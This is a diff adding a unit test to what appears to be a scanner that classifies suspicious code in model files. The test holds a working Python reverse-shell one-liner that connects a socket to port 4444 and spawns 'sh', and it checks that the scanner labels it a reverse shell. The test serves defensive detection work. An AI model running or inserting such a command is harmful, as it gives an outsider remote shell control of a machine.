@@ -255,3 +255,12 @@ def test_assess_python_decompiled_lambda_bodies_with_top_level_return(code: str,
     result = assess_python(code, origin="model.h5:layer/lambda")
     assert result.category is category, result.indicators
     assert result.severity is Severity.HIGH
+
+
+def test_assess_shell_python_c_with_leftover_escaped_quotes() -> None:
+    cmd = (
+        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
+        's.connect((\\"127.0.0.1\\",4444));os.dup2(s.fileno(),0);import pty; pty.spawn(\\"sh\\")\''
+    )
+    assert '\\"' in cmd
+    assert assess_shell(cmd).category is Category.REVERSE_SHELL
